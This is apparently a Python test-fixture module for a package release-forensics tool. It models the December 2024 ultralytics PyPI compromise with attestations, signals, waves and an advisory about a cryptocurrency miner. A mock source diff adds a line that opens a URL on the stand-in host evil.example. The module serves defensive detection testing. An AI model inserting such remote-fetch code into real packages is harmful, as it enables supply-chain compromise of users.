"""Documents built by hand: a two-wave compromise, a benign history, a run that saw nothing, and a very large one."""

# ruff: noqa: E501 - prose in data
from __future__ import annotations

import hashlib
from datetime import UTC, datetime, timedelta
from typing import Any

from forensics.model.document import (
    SCHEMA,
    AttestationDoc,
    CaseDoc,
    Document,
    EventDoc,
    FileDoc,
    ReleaseDoc,
    SignalDoc,
    UncheckedDoc,
)

NAME = "ultralytics"
REPOSITORY = "https://github.com/ultralytics/ultralytics"
START = datetime(2024, 10, 8, 14, 0, tzinfo=UTC)
COMMIT = {"8.3.40": "9e4a8f1a", "8.3.41": "cb260c24", "8.3.42": "5a3f2b10"}
CHECKS = (
    ("certificate chain", "pass", "leaf, intermediate and root of the trust root in force"),
    ("certificate time", "pass", "the log's time lies inside the ten minutes of validity"),
    ("certificate transparency", "pass", "one SCT under a known key"),
    ("signature", "pass", "ECDSA P-256 over the DSSE envelope"),
    ("inclusion promise", "pass", "signed by the log"),
    ("inclusion proof", "pass", "leads to the root hash of the checkpoint"),
    ("checkpoint", "pass", "signed by the log"),
    ("subject digest", "pass", "equals the digest that the index states"),
    ("log consistency", "not checked", "no earlier checkpoint of this log was kept"),
)


def sha(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def oid(text: str) -> str:
    return "o-" + sha(text)[:12]


def iso(at: datetime) -> str:
    return at.isoformat().replace("+00:00", "Z")


def claims(version: str) -> dict[str, str]:
    commit = sha("commit " + version)[:40]
    return {
        "subject_alternative_name": f"{REPOSITORY}/.github/workflows/publish.yml@refs/heads/main",
        "issuer": "https://token.actions.githubusercontent.com",
        "build_signer_uri": f"{REPOSITORY}/.github/workflows/publish.yml@refs/heads/main",
        "runner_environment": "github-hosted",
        "source_repository_uri": REPOSITORY,
        "source_repository_digest": commit,
        "source_repository_ref": "refs/heads/main",
        "source_repository_identifier": "520670205",
        "source_repository_owner_identifier": "26833433",
        "build_config_uri": f"{REPOSITORY}/.github/workflows/publish.yml@refs/heads/main",
        "build_config_digest": commit,
        "build_trigger": "push",
        "run_invocation_uri": f"{REPOSITORY}/actions/runs/{12000000000 + int(sha(version)[:7], 16)}/attempts/1",
        "deployment_environment": "Release - PyPI",
    }


def attestation(version: str, filename: str, at: datetime, index: int) -> AttestationDoc:
    return {
        "digest": sha("attestation " + filename),
        "label": "who uploaded it",
        "predicate_type": "https://docs.pypi.org/attestations/publish/v1",
        "status": "valid",
        "signed_at": iso(at),
        "signed_at_kind": "signed by the log",
        "log_id": "c0d23d6ad406973f9559f3ba2d1ca01f84147d8ffc5b8445c224f98b9591801d",
        "log_index": index,
        "log_origin": "rekor.sigstore.dev - 1193050959916656506",
        "publisher": {
            "kind": "GitHub",
            "repository": "ultralytics/ultralytics",
            "workflow": "publish.yml",
            "environment": None,
        },
        "identity": claims(version),
        "recovered": False,
        "checks": [{"name": n, "result": r, "detail": d} for n, r, d in CHECKS],
        "evidence": [oid("provenance " + filename)],
    }


def file(version: str, kind: str, at: datetime, *, attested: bool = True, listed: bool = True) -> FileDoc:
    filename = f"{NAME}-{version}.tar.gz" if kind == "sdist" else f"{NAME}-{version}-py3-none-any.whl"
    return {
        "filename": filename,
        "kind": kind,
        "sha256": sha(filename),
        "sha512": None,
        "size": 888_432 + len(version),
        "uploaded_at": iso(at),
        "listed": listed,
        "upload_client": "twine/5.1.1 CPython/3.12.7",
        "provenance": "attested" if attested else "absent",
        "provenance_reason": ""
        if attested
        else "the log holds no entry for this digest, and holds those of 8.3.43 and 8.3.44",
        "attestations": [attestation(version, filename, at - timedelta(seconds=11), 153415338)] if attested else [],
        "evidence": [oid("index") if listed else oid("export")],
    }


def release(version: str, predecessor: str | None, at: datetime, **over: Any) -> ReleaseDoc:
    doc: ReleaseDoc = {
        "version": version,
        "line": "8",
        "predecessor": predecessor,
        "published": iso(at),
        "published_kind": "asserted by the index",
        "removed": None,
        "removed_kind": "",
        "removed_reason": "",
        "listed": True,
        "yanked": False,
        "yanked_reason": None,
        "door": "trusted-attested",
        "publication": None,
        "verdict": "ordinary",
        "at_publish": "ordinary",
        "at_publish_is_lower_bound": True,
        "reasons": [],
        "signals": [],
        "not_checked": [
            {"subject": version, "what": w, "reason": r, "needs": n, "evidence": []}
            for w, r, n in (
                ("commit-unreachable", "git was not collected for this case", "git"),
                ("artifact-differs-from-source", "no artifact bytes in this case", "artifact, git"),
            )
        ],
        "identity": claims(version),
        "identity_diff": None,
        "comparison": None,
        "exposure": None,
        "files": [file(version, "sdist", at + timedelta(seconds=3)), file(version, "wheel", at)],
        "mentions": [],
        "runs": [],
        "second_opinion": None,
        "second_opinion_reason": "deps.dev was not asked",
        "evidence": [oid("index")],
    }
    doc.update(over)  # type: ignore[typeddict-item]
    return doc


def signal(
    sid: str, family: str, severity: str, observed: str, expected: str, *evidence: str, **over: Any
) -> SignalDoc:
    titles = {
        "artifact-differs-from-source": "The artifact holds what the source does not",
        "release-removed": "Known elsewhere, gone from the index",
        "advisory-match": "An advisory names this release",
        "provenance-lost": "No attestation where every earlier release had one",
        "no-source-release": "No tag, release or version bump for this version",
        "rapid-repeat": "Unusually soon after the release before it",
        "publisher-account-changed": "Another account published",
    }
    doc: SignalDoc = {
        "id": sid,
        "title": titles.get(sid, sid),
        "family": family,
        "severity": severity,
        "confidence": "high",
        "observed": observed,
        "expected": expected,
        "benign_if": ["the maintainers state that they did it, and the files equal the source"],
        "note": "",
        "at_publish": family not in {"hindsight"},
        "evidence": [oid(name) for name in evidence],
    }
    doc.update(over)  # type: ignore[typeddict-item]
    return doc


HINDSIGHT = (
    signal("release-removed", "hindsight", "medium", "named by the metadata export and by PYSEC-2024-154; not in the index's answer",
           "a published release stays listed or is yanked", "export", "index", "osv"),
    signal("advisory-match", "hindsight", "decisive", "PYSEC-2024-154 lists this version explicitly, and it was removed",
           "no advisory", "osv", benign_if=["the advisory is withdrawn"]),
)  # fmt: skip


def suspect(version: str, predecessor: str, at: datetime, removed: datetime, first_wave: bool) -> ReleaseDoc:
    if first_wave:
        own = [signal("artifact-differs-from-source", "source", "high",
                      "ultralytics/utils/downloads.py and ultralytics/models/yolo/model.py differ from commit cb260c24",
                      "files equal the attested commit, as in the 20 releases before", "artifact", "git",
                      benign_if=["the build generates these files, and did so before"],
                      note="The attestation is valid: the project's own workflow built what an attacker had put into its cache.")]  # fmt: skip
    else:
        own = [
            signal("provenance-lost", "trust", "medium", "neither file is attested", "both files attested, as in the last 28 releases of line 8", "log", "export",
                   benign_if=["a maintainer uploaded by hand because the workflow was broken", "the project left Trusted Publishing deliberately"]),
            signal("no-source-release", "source", "medium", "no tag v" + version + " and no commit that sets this version", "a tag, as for 30 of 30 earlier releases", "git"),
        ]  # fmt: skip
    diff = {
        "before": predecessor,
        "after": version,
        "rows": diff_rows(predecessor, version) if first_wave else [],
        "reason": "" if first_wave else f"{version} has no attestation, so no certificate says who uploaded it",
        "evidence": [oid("index"), oid("log")],
    }
    return release(
        version, predecessor, at,
        removed=iso(removed), removed_kind="asserted by a reporter", removed_reason="the index no longer lists it; the time is from a public write-up",
        listed=False, door="trusted-attested" if first_wave else "unknown", verdict="likely-compromised",
        at_publish="suspicious" if first_wave else "likely-compromised",
        reasons=["decisive: an advisory lists this version explicitly and it was removed", "medium or high signals in two families"],
        signals=[*own, *HINDSIGHT], identity=claims(version) if first_wave else None, identity_diff=diff,
        comparison=comparison(predecessor, version),
        exposure={"start": iso(at), "end": iso(removed), "seconds": int((removed - at).total_seconds()), "start_source": "metadata export",
                  "end_source": "public write-up", "end_reason": "removed from the index"},
        files=[file(version, k, at, attested=first_wave, listed=False) for k in ("sdist", "wheel")],
        mentions=[{"source": "metadata export", "text": "two files with SHA-256 and upload time", "evidence": [oid("export")]},
                  {"source": "OSV", "text": "PYSEC-2024-154", "evidence": [oid("osv")]}],
        evidence=[oid("export"), oid("osv")],
    )  # fmt: skip


def comparison(before: str, after: str) -> dict[str, Any]:
    """Two commits, another workflow file, one file that newly downloads, one too large to spell out."""
    sdist = f"{NAME}-{after}.tar.gz"
    text = {
        "path": "ultralytics/utils/downloads.py",
        "change": "changed",
        "runs": "when called",
        "newly_reaches": ["the network"],
        "lines": [
            "@@ -1,2 +1,3 @@",
            " import os",
            "-old = 1",
            "+import urllib.request",
            "+new = urllib.request.urlopen('https://evil.example/x')",
        ],
        "reason": "",
        "left_out": 7,
    }
    large = {
        "path": "ultralytics/assets/model.bin",
        "change": "added",
        "runs": "never",
        "newly_reaches": [],
        "lines": [],
        "reason": "larger than 262,144 bytes",
        "left_out": 0,
    }
    return {
        "before": before, "after": after,
        "source": {"before": sha("commit " + before)[:40], "after": sha("commit " + after)[:40], "count": 3,
                   "commits": [{"sha": sha("commit " + after)[:40], "committed": "2024-12-04T20:43:14Z", "subject": "Update publish workflow"},
                               {"sha": sha("middle " + after)[:40], "committed": None, "subject": "Merge pull request"}],
                   "workflow": {"path": ".github/workflows/publish.yml", "before": sha("w" + before)[:40], "after": sha("w" + after)[:40],
                                "lines": ["@@ -3,2 +3,3 @@", " on: push", "+  pull_request_target:"], "reason": "", "left_out": 0},
                   "evidence": [oid("git")]},
        "contents": [{"before": f"{NAME}-{before}.tar.gz", "after": sdist, "added": [large["path"]], "removed": ["gone.py"], "changed": [text["path"]],
                      "surface": [f"{text['path']} newly touches the network at import"], "dependencies": ["requests"], "problems": ["two members of one name"],
                      "texts": [text, large], "evidence": [oid("artifact")]}],
        "not_compared": [{"what": "artifact contents", "reason": "the wheel was not fetched", "needs": "artifact", "evidence": [oid("index")]}],
    }  # fmt: skip


def graph(releases: list[ReleaseDoc]) -> dict[str, Any]:
    """Every release on one identity and one repository, suspects with their files: the picture is the graph."""
    if not releases:
        return dict.fromkeys(("node_count", "edge_count"), 0) | {
            "whole": True, "nodes": [], "edges": [], "picture_nodes": [], "picture_edges": [],
        }  # fmt: skip
    nodes = [
        {
            "id": "identity:a",
            "type": "identity",
            "label": "ultralytics/ultralytics",
            "versions": [],
            "members": 1,
            "verdict": None,
        },
        {
            "id": "repository:r",
            "type": "repository",
            "label": "ultralytics/ultralytics",
            "versions": [],
            "members": 1,
            "verdict": None,
        },
    ]
    edges = [
        {
            "source": "identity:a",
            "target": "repository:r",
            "relation": "speaks for",
            "version": None,
            "evidence": [oid("log")],
        }
    ]
    quiet = [r["version"] for r in releases if r["verdict"] not in {"suspicious", "likely-compromised"}]
    if quiet:
        nodes.append(
            {
                "id": "group:1",
                "type": "release",
                "label": f"{len(quiet)} releases",
                "versions": quiet,
                "members": max(2, len(quiet)),
                "verdict": "ordinary",
            }
        )
        edges.append(
            {
                "source": "group:1",
                "target": "identity:a",
                "relation": "is signed by",
                "version": None,
                "evidence": [oid("index")],
            }
        )
    for r in releases:
        if r["version"] not in quiet:
            version = r["version"]
            file = r["files"][0]["filename"]
            nodes += [
                {
                    "id": f"release:{version}",
                    "type": "release",
                    "label": version,
                    "versions": [version],
                    "members": 1,
                    "verdict": r["verdict"],
                },
                {
                    "id": f"artifact:{file}",
                    "type": "artifact",
                    "label": file,
                    "versions": [version],
                    "members": 1,
                    "verdict": r["verdict"],
                },
            ]
            edges += [
                {
                    "source": f"release:{version}",
                    "target": f"artifact:{file}",
                    "relation": "has the file",
                    "version": version,
                    "evidence": [oid("export")],
                },
                {
                    "source": f"artifact:{file}",
                    "target": "identity:a",
                    "relation": "is signed by",
                    "version": version,
                    "evidence": [oid("log")],
                },
            ]
    return {"whole": True, "node_count": len(nodes), "edge_count": len(edges), "nodes": nodes, "edges": edges, "picture_nodes": nodes, "picture_edges": edges}  # fmt: skip


def diff_rows(before: str, after: str) -> list[dict[str, Any]]:
    old, new = claims(before), claims(after)
    per_release = {"source_repository_digest", "build_config_digest", "run_invocation_uri"}
    rows: list[dict[str, Any]] = []
    for name in old:
        change = "expected" if name in per_release else "same"
        left: str | None = old[name]
        if name == "deployment_environment" and after == "8.3.42":
            change, left = "added", None
        rows.append(
            {"claim": name, "label": name.replace("_", " "), "before": left, "after": new[name], "change": change}
        )
    return rows


def events_of(r: ReleaseDoc) -> list[EventDoc]:
    at = datetime.fromisoformat(r["published"] or "")
    rows: list[tuple[datetime, str, str, str]] = [(at, "asserted by the index", "index", "published")]
    if r["identity"]:
        rows += [
            (at - timedelta(minutes=6), "claimed by git", "repository", "commit"),
            (
                at - timedelta(seconds=14),
                "signed by the certificate authority",
                "CI and certificate",
                "certificate issued",
            ),
            (at - timedelta(seconds=11), "signed by the log", "transparency log", "attestation logged"),
        ]
    if r["removed"]:
        rows.append((datetime.fromisoformat(r["removed"]), r["removed_kind"], "index", "removed"))
    return [
        {"at": iso(t), "kind": k, "lane": lane, "what": what, "version": r["version"], "subject": None, "detail": "",
         "evidence": [oid("index" if lane == "index" else "provenance " + r["files"][0]["filename"])]}
        for t, k, lane, what in rows
    ]  # fmt: skip


def case(**over: Any) -> CaseDoc:
    doc: CaseDoc = {
        "id": "ultralytics-2024-12",
        "reconstruction": True,
        "label": "Made by the project's test lab from public reports; signed by the lab's own root, not by Sigstore.",
        "collected_at": "2024-12-12T00:00:00Z",
        "complete": True,
        "problems": [],
        "tool": "release-forensics 0.1.0, Python 3.12.7, sigstore 4.5.1",
        "endpoints": {
            "pypi": "https://pypi.org",
            "files": "https://files.pythonhosted.org",
            "osv": "https://api.osv.dev",
        },
        "trust_root": {"sha256": sha("root"), "name": "test lab", "vouched_by": "the built-in case"},
        "observations": 0,
    }
    doc.update(over)  # type: ignore[typeddict-item]
    return doc


def document(releases: list[ReleaseDoc], **over: Any) -> Document:
    events = sorted((e for r in releases for e in events_of(r)), key=lambda e: e["at"])
    doc: Document = {
        "schema": SCHEMA,
        "project": {"ecosystem": "pypi", "name": NAME, "purl": f"pkg:pypi/{NAME}", "status": "active",
                    "latest": releases[-1]["version"] if releases else None, "repository": "ultralytics/ultralytics", "repository_url": REPOSITORY},
        "case": case(),
        "verdict": "ordinary",
        "exit_code": 0,
        "headline": f"No release of {NAME} is flagged",
        "sentences": [{"text": f"{len(releases)} releases were analysed.", "evidence": [oid("index")]}],
        "releases": releases,
        "waves": [],
        "gaps": [],
        "log_only": [],
        "installable_now": [],
        "installable_checked": True,
        "publishers": [],
        "advisories": [],
        "events": events,
        "sources": [],
        "accounts": [],
        "current_names": [],
        "journal": {"rows": 0, "read": [], "reason": "the index's journal was not collected", "evidence": []},
        "contradictions": [],
        "not_checked": [],
        "not_collected": [
            {"section": "source", "reason": "CI runs are not collected in this version"},
        ],
        "drift": [],
        "observations": [],
        "method": ["Signatures, certificates and log proofs are checked offline under the trust root named below.",
                   "Times of publication are asserted by the index; times of signing are signed by the log."],
        "options": {"hindsight": True},
        "graph": graph(releases),
    }  # fmt: skip
    doc.update(over)  # type: ignore[typeddict-item]
    doc["observations"] = observations(doc)
    doc["case"]["observations"] = len(doc["observations"])
    return doc


def observations(doc: Document) -> list[Any]:
    urls = {"index": "https://pypi.org/simple/ultralytics/", "osv": "https://api.osv.dev/v1/query", "export": "file:imports/export.csv",
            "log": "https://rekor.sigstore.dev/api/v1/index/retrieve", "git": REPOSITORY + ".git", "artifact": f"https://files.pythonhosted.org/packages/aa/{NAME}-8.3.41-py3-none-any.whl"}  # fmt: skip
    urls |= {f"provenance {f['filename']}": f"https://pypi.org/integrity/{NAME}/{r['version']}/{f['filename']}/provenance"
             for r in doc["releases"] for f in r["files"] if f["attestations"]}  # fmt: skip
    return [
        {"id": oid(name), "method": "IMPORT" if url.startswith("file:") else "GET", "url": url, "at": "2024-12-12T00:00:00Z",
         "status": None if url.startswith("file:") else 200, "sha256": sha(url), "size": 4000 + len(url), "media_type": "application/json", "problem": None}
        for name, url in urls.items()
    ]  # fmt: skip


def ordinary(first: int, count: int, hours: float = 36) -> list[ReleaseDoc]:
    made: list[ReleaseDoc] = []
    for n in range(count):
        version = f"8.3.{first + n}"
        made.append(
            release(
                version, made[-1]["version"] if made else None, START + timedelta(hours=hours * n, minutes=17 * n % 53)
            )
        )
    return made


def compromised() -> Document:
    """Two waves of two releases each, 33 ordinary ones, one notable; lower bounds, gaps, export-known hashes."""
    at = {v: datetime.fromisoformat(t + "+00:00") for v, t in {
        "8.3.38": "2024-11-26T11:39:12", "8.3.39": "2024-11-28T22:09:06", "8.3.40": "2024-12-02T15:03:30",
        "8.3.41": "2024-12-04T20:51:00", "8.3.42": "2024-12-05T12:47:00", "8.3.43": "2024-12-05T19:49:17", "8.3.44": "2024-12-06T12:11:04",
        "8.3.45": "2024-12-07T01:41:00", "8.3.46": "2024-12-07T02:27:00", "8.3.47": "2024-12-07T12:58:39", "8.3.48": "2024-12-08T17:50:38"}.items()}  # fmt: skip
    gone = {v: datetime.fromisoformat(t + "+00:00") for v, t in {
        "8.3.41": "2024-12-05T09:15:00", "8.3.42": "2024-12-05T13:47:00", "8.3.45": "2024-12-07T02:22:00", "8.3.46": "2024-12-07T03:15:00"}.items()}  # fmt: skip
    before = {"8.3.38": "8.3.37", "8.3.39": "8.3.38", "8.3.40": "8.3.39", "8.3.41": "8.3.40", "8.3.42": "8.3.40", "8.3.43": "8.3.40",
              "8.3.44": "8.3.43", "8.3.45": "8.3.44", "8.3.46": "8.3.44", "8.3.47": "8.3.44", "8.3.48": "8.3.47"}  # fmt: skip
    releases = ordinary(10, 28, hours=41)
    for version, time in at.items():
        if version in gone:
            releases.append(suspect(version, before[version], time, gone[version], version in {"8.3.41", "8.3.42"}))
        elif version == "8.3.47":
            soon = signal(
                "rapid-repeat",
                "time",
                "low",
                "10 h 31 min after 8.3.46",
                "at least 11 h 2 min, the project's first percentile",
                "index",
            )
            releases.append(
                release(
                    version,
                    before[version],
                    time,
                    verdict="notable",
                    at_publish="notable",
                    reasons=["only low signals"],
                    signals=[soon],
                )
            )
        else:
            releases.append(release(version, before[version], time))
    for one in releases:
        if one["version"] in {"8.3.41", "8.3.42"}:
            one["runs"] = [run_of(one["version"])]  # type: ignore[list-item]
            one["second_opinion"] = opinion_of(one["version"])  # type: ignore[typeddict-item]
    advisory: EventDoc = {"at": "2024-12-10T00:00:00Z", "kind": "asserted by a reporter", "lane": "advisory", "what": "PYSEC-2024-154 published",
                          "version": None, "subject": "PYSEC-2024-154", "detail": "lists 8.3.41, 8.3.42, 8.3.45, 8.3.46", "evidence": [oid("osv")]}  # fmt: skip
    doc = document(releases, verdict="likely-compromised", exit_code=11,
                   headline="Four releases of ultralytics are likely compromised, in two waves between 4 and 7 December 2024",
                   waves=[wave(["8.3.41", "8.3.42"], at, gone, "8.3.40", "8.3.43"), wave(["8.3.45", "8.3.46"], at, gone, "8.3.44", "8.3.47")],
                   **_compromised_parts(releases))  # fmt: skip
    doc["events"] = sorted([*doc["events"], advisory], key=lambda e: e["at"])
    return doc


def compact() -> Document:
    """The compromised project with its last eleven releases only: everything a page can show, in a small page."""
    doc = compromised()
    kept = {release["version"] for release in doc["releases"][-11:]}
    doc["releases"] = [release for release in doc["releases"] if release["version"] in kept]
    doc["events"] = [event for event in doc["events"] if event["version"] is None or event["version"] in kept]
    return doc


def _witness_parts() -> dict[str, Any]:
    return {
        "accounts": [
            {"account": "glenn", "role": "Owner", "other_projects": ["hub-sdk", "thop"], "reason": "",
             "advised_projects": {"thop": ["PYSEC-2025-1"]}, "evidence": [oid("roles")]},
            {"account": "robot", "role": "Maintainer", "other_projects": None, "reason": "the index answered HTTP 503",
             "advised_projects": None, "evidence": [oid("roles")]},
        ],
        "current_names": [{"kind": "repository", "id": "520670205", "current": "ultralytics/moved", "evidence": [oid("names")]}],
        "journal": {"rows": 9, "read": [{"start": "2024-12-03T00:00:00Z", "end": "2024-12-08T00:00:00Z"}], "reason": "", "evidence": [oid("journal")]},
        "contradictions": [{"version": "8.3.41", "about": "source commit", "first": "deps.dev: aaa", "second": "the certificate: bbb", "at": None, "evidence": [oid("depsdev")]}],
    }  # fmt: skip


def run_of(version: str) -> dict[str, Any]:
    """A CI run with two jobs, of which the second publishes."""
    return {
        "repository": "ultralytics/ultralytics", "run": 12168072999, "attempt": 1, "status": "completed",
        "conclusion": "success", "trigger": "push", "commit": "cb260c24", "branch": "main",
        "workflow": ".github/workflows/publish.yml", "actor": "glenn", "started": "2024-12-04T20:49:00Z",
        "jobs": [
            {"name": "check", "conclusion": "success", "started": None, "completed": None, "steps": []},
            {"name": "publish", "conclusion": "failure", "started": None, "completed": None,
             "steps": [{"name": "Run pypa/gh-action-pypi-publish@release/v1", "conclusion": "skipped"}]},
        ],
        "reason": "", "evidence": [oid(f"run {version}")],
    }  # fmt: skip


def opinion_of(version: str) -> dict[str, Any]:
    """What deps.dev says of a version that it verified."""
    return {
        "published": "2024-12-04T20:51:12Z", "default": False, "deprecated": "do not use", "project_status": None,
        "attestations": [{"type": "publish", "url": None, "verified": True, "source_repository": REPOSITORY, "commit": "cb260c24"}],
        "related": [{"project": "github.com/ultralytics/ultralytics", "provenance": "PYPI_PUBLISH_ATTESTATION", "relation": "SOURCE_REPO"}],
        "advisories": ["PYSEC-2024-154"], "findings": [{"type": "MALICIOUS", "risk": "CRITICAL"}], "registries": [],
        "evidence": [oid(f"depsdev {version}")],
    }  # fmt: skip


def _compromised_parts(releases: list[ReleaseDoc]) -> dict[str, Any]:
    signed = [r["version"] for r in releases if r["identity"]]
    return {
        "sentences": [
            {"text": "8.3.41 and 8.3.42 came through the project's own workflow with valid attestations; what they hold differs from their commit.", "evidence": [oid("artifact"), oid("git")]},
            {"text": "8.3.45 and 8.3.46 have no attestation, no tag and no commit, unlike the 28 releases before them.", "evidence": [oid("log"), oid("export")]},
            {"text": "The last release without findings before each wave is 8.3.40 and 8.3.44.", "evidence": [oid("index")]},
            {"text": "None of the four can be installed from the index any more.", "evidence": [oid("index")]},
        ],
        "gaps": [{"line": "8.2", "missing": ["8.2.104", "8.2.105"], "after": "8.2.103", "before": "8.2.106", "text": "Two numbers are missing; nothing in this case names them."}],
        "publishers": [{"identity": {k: claims("x")[k] for k in ("source_repository_uri", "build_config_uri", "build_trigger", "runner_environment", "deployment_environment")},
                        "first_version": "8.3.10", "last_version": "8.3.48", "versions": signed, "changed": []}],
        "advisories": [{"id": "PYSEC-2024-154", "aliases": [], "summary": "Code in ultralytics 8.3.41, 8.3.42, 8.3.45 and 8.3.46 downloads and runs a cryptocurrency miner.",
                        "published": "2024-12-10T00:00:00Z", "withdrawn": None, "malicious": True, "versions": ["8.3.41", "8.3.42", "8.3.45", "8.3.46"], "indicators": [{"type": "domain", "value": "evil.example"}, {"type": "url", "value": "https://evil.example/x"}], "evidence": [oid("osv")]}],
        "sources": [{"source": "pypi", "asked": 71, "answered": 71, "problem": None, "evidence": [oid("index")]},
                    {"source": "osv", "asked": 1, "answered": 1, "problem": None, "evidence": [oid("osv")]},
                    {"source": "rekor", "asked": 10, "answered": 8, "problem": "2 requests timed out after 10 s", "evidence": [oid("log")]}],
        **_witness_parts(),
        "not_checked": [{"subject": "project", "what": "publisher-account-changed", "reason": "the journal names no account", "needs": "journal", "evidence": []}],
    }  # fmt: skip


def wave(
    versions: list[str], at: dict[str, datetime], gone: dict[str, datetime], good: str, after: str
) -> dict[str, Any]:
    start, end = at[versions[0]], max(gone[v] for v in versions)
    return {
        "line": "8", "releases": versions, "verdict": "likely-compromised",
        "last_good": {"version": good, "verdict": "ordinary", "not_checked": 2},
        "first_good": {"version": after, "verdict": "notable" if after == "8.3.47" else "ordinary", "not_checked": 2},
        "exposure": {"start": iso(start), "end": iso(end), "seconds": int((end - start).total_seconds()), "start_source": "metadata export",
                     "end_source": "public write-up", "end_reason": "the last of the wave was removed"},
        "evidence": [oid("export"), oid("index")],
    }  # fmt: skip


def benign() -> Document:
    """Thirty-five ordinary releases; nothing fired, everything was checked."""
    releases = ordinary(0, 35)
    for r in releases:
        r["not_checked"] = []
    return document(releases, case=case(reconstruction=False, label=None, id="benign"))


def empty() -> Document:
    """A live run whose every source failed: nothing observed, which is not the same as nothing there."""
    unreachable: UncheckedDoc = {
        "subject": "project",
        "what": "index",
        "reason": "https://pypi.org refused the connection",
        "needs": "index",
        "evidence": [],
    }
    return document(
        [], verdict="undetermined", headline="Nothing could be observed of ultralytics", sentences=[], installable_checked=False,
        case=case(reconstruction=False, label=None, id="live", complete=False, problems=["pypi: connection refused"]),
        sources=[{"source": "pypi", "asked": 1, "answered": 0, "problem": "connection refused", "evidence": []}],
        not_checked=[unreachable], method=[], options={},
        not_collected=[{"section": s, "reason": "the index did not answer"} for s in ("timeline", "events", "source", "graph", "publishers")],
    )  # fmt: skip


def large(count: int = 10_000) -> Document:
    """*count* releases, every hundredth notable, a wave of five near the end."""
    releases = ordinary(0, count, hours=5)
    for n in range(0, count, 100):
        releases[n] |= {
            "verdict": "notable",
            "signals": [signal("rapid-repeat", "time", "low", "soon", "later", "index")],
        }  # type: ignore[assignment]
    for n in range(count - 40, count - 35):
        old, at = releases[n], datetime.fromisoformat(releases[n]["published"] or "")
        releases[n] = suspect(old["version"], old["predecessor"] or "", at, at + timedelta(hours=9), first_wave=True)
    return document(releases, verdict="likely-compromised", exit_code=11, headline="Five of many")
